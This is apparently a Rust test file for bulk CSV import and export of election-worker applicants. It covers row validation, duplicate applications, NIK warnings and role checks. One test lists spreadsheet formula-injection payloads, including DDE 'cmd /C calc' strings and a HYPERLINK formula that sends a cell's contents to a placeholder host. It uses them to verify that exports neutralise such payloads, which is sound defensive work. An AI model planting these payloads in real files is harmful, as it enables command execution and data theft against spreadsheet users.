//! Bulk import and export of applicants.

use crate::common;

use adhoc::domain::account::Role;
use adhoc::domain::round::{Body, Preset};
use adhoc::service::applicants::{export_csv, import};
use adhoc::service::auth::Session;
use adhoc::service::rounds::create_from_preset;
use common::{now, ready_db};

const HEADER: &str =
    "nik,nama,jenis_kelamin,tempat_lahir,tanggal_lahir,alamat,kode_desa,pendidikan,telepon,email,kode_wilayah_tugas";

fn row(nik: &str, name: &str, unit: &str) -> String {
    format!("{nik},{name},L,Pasuruan,12-08-1990,Dusun Krajan RT 001,35.14.01.2001,SMA,081234567890,,{unit}")
}

fn file(rows: &[String]) -> String {
    std::iter::once(HEADER.to_string())
        .chain(rows.iter().cloned())
        .collect::<Vec<_>>()
        .join("\n")
}

async fn count(db: &adhoc::store::Db) -> i64 {
    sqlx::query_scalar("SELECT COUNT(*) FROM applicants")
        .fetch_one(db.pool())
        .await
        .unwrap()
}

#[tokio::test]
async fn a_bad_row_in_the_middle_stores_nothing() {
    let (t, admin) = ready_db().await;
    let desk = Session {
        role: Role::Operator,
        ..admin.clone()
    };
    let round = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Ppk, None, now())
        .await
        .unwrap();
    let rows: Vec<String> = (1..=500)
        .map(|i| {
            row(
                &format!("351401120890{i:04}"),
                &format!("Pendaftar {i}"),
                "35.14.01",
            )
        })
        .collect();
    let mut bad = rows.clone();
    bad[249] = row("3514011208900250", "Pendaftar 250", "35.14.99");
    let report = import(&t.db, &desk, round.id, file(&bad).as_bytes(), now())
        .await
        .unwrap();
    assert!(!report.is_stored());
    assert_eq!(report.problems.listed.len(), 1);
    assert_eq!(
        (
            report.problems.listed[0].line,
            report.problems.listed[0].column.as_str()
        ),
        (251, "kode_wilayah_tugas")
    );
    assert_eq!(count(&t.db).await, 0);

    let report = import(&t.db, &desk, round.id, file(&rows).as_bytes(), now())
        .await
        .unwrap();
    assert!(report.is_stored(), "{:?}", report.problems);
    assert_eq!(report.stored, 500);
    assert_eq!(report.first_number.as_deref(), Some("PPK-3514-0001"));
    assert_eq!(report.last_number.as_deref(), Some("PPK-3514-0500"));
    assert_eq!(count(&t.db).await, 500);
}

#[tokio::test]
async fn one_application_per_person_per_election() {
    let (t, admin) = ready_db().await;
    let desk = Session {
        role: Role::Operator,
        ..admin.clone()
    };
    let ppk = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Ppk, None, now())
        .await
        .unwrap();
    let pps = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Pps, None, now())
        .await
        .unwrap();
    let pilkada = create_from_preset(&t.db, &admin, Preset::Pilkada2024, Body::Ppk, None, now())
        .await
        .unwrap();
    import(
        &t.db,
        &desk,
        ppk.id,
        file(&[row("3514011208900001", "Budi", "35.14.01")]).as_bytes(),
        now(),
    )
    .await
    .unwrap();
    // The same person for PPS in the same election is refused, naming the existing application.
    let again = import(
        &t.db,
        &desk,
        pps.id,
        file(&[row("3514011208900001", "Budi", "35.14.01.2001")]).as_bytes(),
        now(),
    )
    .await
    .unwrap();
    assert!(!again.is_stored());
    assert!(
        again.problems.listed[0]
            .reason
            .contains("Pemilu 2024 – PPK dengan nomor PPK-3514-0001"),
        "{:?}",
        again.problems
    );
    // Another election is fine.
    let other = import(
        &t.db,
        &desk,
        pilkada.id,
        file(&[row("3514011208900001", "Budi", "35.14.01")]).as_bytes(),
        now(),
    )
    .await
    .unwrap();
    assert!(other.is_stored());
}

#[tokio::test]
async fn numbers_continue_and_nik_warnings_are_kept_for_review() {
    let (t, admin) = ready_db().await;
    let desk = Session {
        role: Role::Operator,
        ..admin.clone()
    };
    let round = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Ppk, None, now())
        .await
        .unwrap();
    import(
        &t.db,
        &desk,
        round.id,
        file(&[row("3514011208900001", "Budi", "35.14.01")]).as_bytes(),
        now(),
    )
    .await
    .unwrap();
    // NIK says a woman (day 52) but the row says L: stored, with the warning.
    let report = import(
        &t.db,
        &desk,
        round.id,
        file(&[row("3514015208900002", "Sri", "35.14.02")]).as_bytes(),
        now(),
    )
    .await
    .unwrap();
    assert_eq!(report.first_number.as_deref(), Some("PPK-3514-0002"));
    assert_eq!(report.with_nik_warnings, 1);
    let (warnings, ack): (Option<String>, bool) =
        sqlx::query_as("SELECT nik_warnings, nik_warnings_ack FROM applicants WHERE reg_seq = 2")
            .fetch_one(t.db.pool())
            .await
            .unwrap();
    assert!(warnings.unwrap().contains("sex_mismatch"));
    assert!(!ack);
}

#[tokio::test]
async fn export_writes_the_import_format_back() {
    let (t, admin) = ready_db().await;
    let desk = Session {
        role: Role::Operator,
        ..admin.clone()
    };
    let pemilu = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Pps, None, now())
        .await
        .unwrap();
    let source = format!(
        "\u{feff}{};kode_desa_domisili;alasan_domisili\n{}\n",
        HEADER.replace(',', ";"),
        "3514015208900002;Siti Nur'aini;P;Pasuruan;1990-08-12;\"Jl. Contoh 1; RT 2\";35.07.01.2001;S1;;siti@contoh.invalid;35.14.01.2002;35.14.01.2002;Surat domisili"
    );
    let report = import(&t.db, &desk, pemilu.id, source.as_bytes(), now())
        .await
        .unwrap();
    assert!(report.is_stored(), "{:?}", report.problems);
    let mut out = Vec::new();
    assert_eq!(
        export_csv(&t.db, &admin, pemilu.id, &mut out, now())
            .await
            .unwrap(),
        1
    );
    let exported = String::from_utf8(out).unwrap();
    assert_eq!(
        exported,
        "nomor_pendaftaran,nik,nama,jenis_kelamin,tempat_lahir,tanggal_lahir,alamat,kode_desa,pendidikan,telepon,email,kode_wilayah_tugas,pekerjaan,kode_desa_domisili,alasan_domisili\n\
         PPS-3514-0001,3514015208900002,Siti Nur'aini,P,Pasuruan,1990-08-12,Jl. Contoh 1; RT 2,35.07.01.2001,S1,,siti@contoh.invalid,35.14.01.2002,,35.14.01.2002,Surat domisili\n"
    );
    // What was exported imports again (the number is ignored), into another election.
    let pilkada = create_from_preset(&t.db, &admin, Preset::Pilkada2024, Body::Pps, None, now())
        .await
        .unwrap();
    assert!(import(&t.db, &desk, pilkada.id, exported.as_bytes(), now())
        .await
        .unwrap()
        .is_stored());
}

#[tokio::test]
async fn only_the_help_desk_imports() {
    let (t, admin) = ready_db().await;
    let round = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Ppk, None, now())
        .await
        .unwrap();
    for role in [Role::Administrator, Role::Verifikator, Role::Pimpinan] {
        let s = Session {
            role,
            ..admin.clone()
        };
        let e = import(
            &t.db,
            &s,
            round.id,
            file(&[row("3514011208900001", "Budi", "35.14.01")]).as_bytes(),
            now(),
        )
        .await
        .unwrap_err();
        assert_eq!(e.code(), "forbidden", "{role:?}");
    }
    assert_eq!(count(&t.db).await, 0);
}

/// Cells a spreadsheet would run as formulas (OWASP "CSV injection"), as
/// staff or a hostile file could have typed them.
const FORMULAS: [(&str, &str, &str); 3] = [
    (
        "=HYPERLINK(\"http://contoh.invalid/?\"&A1;\"Klik\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+cmd|' /C notepad'!A0",
    ),
    ("-2+3+cmd|' /C calc'!A0", "=1+1", "@Pegawai"),
    ("Budi Santoso", "Dusun Krajan", "-"),
];

#[tokio::test]
async fn export_neutralises_formulas_and_reads_back_the_same_applicants() {
    let (t, admin) = ready_db().await;
    let desk = Session {
        role: Role::Operator,
        ..admin.clone()
    };
    let pemilu = create_from_preset(&t.db, &admin, Preset::Pemilu2024, Body::Ppk, None, now())
        .await
        .unwrap();
    let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let rows: Vec<String> = FORMULAS
        .iter()
        .enumerate()
        .map(|(i, (name, address, job))| {
            format!(
                "351401120890{:04},{},L,Pasuruan,12-08-1990,{},35.14.01.2001,SMA,+62 812 3456 7890,,35.14.01,{}",
                i + 1,
                quote(name),
                quote(address),
                quote(job)
            )
        })
        .collect();
    let source = format!("{HEADER},pekerjaan\n{}\n", rows.join("\n"));
    let report = import(&t.db, &desk, pemilu.id, source.as_bytes(), now())
        .await
        .unwrap();
    assert!(report.is_stored(), "{:?}", report.problems);

    let mut out = Vec::new();
    export_csv(&t.db, &admin, pemilu.id, &mut out, now())
        .await
        .unwrap();
    let exported = String::from_utf8(out).unwrap();
    let cells: Vec<Vec<String>> = csv::Reader::from_reader(exported.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect();
    // A cell a spreadsheet reads as a formula starts with one of these and
    // is not a plain number (nor a lone dash).
    let number = |c: &str| {
        let digits = c.trim_start_matches(['+', '-']);
        !digits.is_empty() && digits.bytes().all(|b| b.is_ascii_digit())
    };
    for row in &cells {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell == "-" || number(cell),
                "a spreadsheet would run {cell:?}"
            );
        }
    }
    assert_eq!(
        cells[0][2],
        "'=HYPERLINK(\"http://contoh.invalid/?\"&A1;\"Klik\")"
    );
    assert_eq!(cells[1][6], "'=1+1");
    // A number stays a number, a lone dash stays a dash.
    assert_eq!(cells[0][9], "+6281234567890");
    assert_eq!(cells[2][12], "-");

    // The export imports again as the same applicants, into another election.
    let pilkada = create_from_preset(&t.db, &admin, Preset::Pilkada2024, Body::Ppk, None, now())
        .await
        .unwrap();
    let report = import(&t.db, &desk, pilkada.id, exported.as_bytes(), now())
        .await
        .unwrap();
    assert!(report.is_stored(), "{:?}", report.problems);
    let mut again = Vec::new();
    export_csv(&t.db, &admin, pilkada.id, &mut again, now())
        .await
        .unwrap();
    let without_number = |csv: &str| -> Vec<String> {
        csv.lines()
            .map(|l| l.split_once(',').unwrap().1.to_string())
            .collect()
    };
    assert_eq!(
        without_number(&String::from_utf8(again).unwrap()),
        without_number(&exported)
    );
}
